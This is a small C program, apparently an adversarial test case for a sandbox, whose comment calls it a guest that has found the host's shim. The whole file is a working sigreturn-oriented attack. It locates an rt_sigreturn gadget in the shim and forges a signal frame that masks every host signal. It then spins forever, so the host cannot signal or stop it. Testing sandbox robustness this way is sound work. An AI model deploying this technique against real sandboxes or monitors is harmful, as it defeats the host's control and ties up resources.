/* A guest that has found the shim and uses it: it returns through a forged frame that blocks every
 * signal of the host, then computes for ever.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <string.h>
#include <ucontext.h>
#include <unistd.h>

#define SHIM ((const unsigned char *)0x7e0000000000)

static void spin(void) {
    for (volatile long n = 0;; n++)
        ;
}

int main(void) {
    static const unsigned char pattern[] = {0xb8, 0x0f, 0, 0, 0, 0x0f, 0x05}; /* rt_sigreturn */
    static char stack[65536] __attribute__((aligned(16)));
    const unsigned char *at = SHIM;
    ucontext_t frame;
    while (memcmp(at, pattern, sizeof pattern))
        at++;
    getcontext(&frame);
    memset(&frame.uc_sigmask, 0xff, sizeof frame.uc_sigmask);
    frame.uc_mcontext.gregs[REG_RIP] = (uintptr_t)spin;
    frame.uc_mcontext.gregs[REG_RSP] = (uintptr_t)stack + sizeof stack - 8;
    frame.uc_mcontext.gregs[REG_CSGSFS] = 0x33 | (long long)0x2b << 48;
    frame.uc_mcontext.fpregs = NULL;
    write(1, "off\n", 4);
    __asm__ volatile("mov %0, %%rsp\n jmp *%1\n" : : "r"(&frame), "r"(at));
    return 1;
}
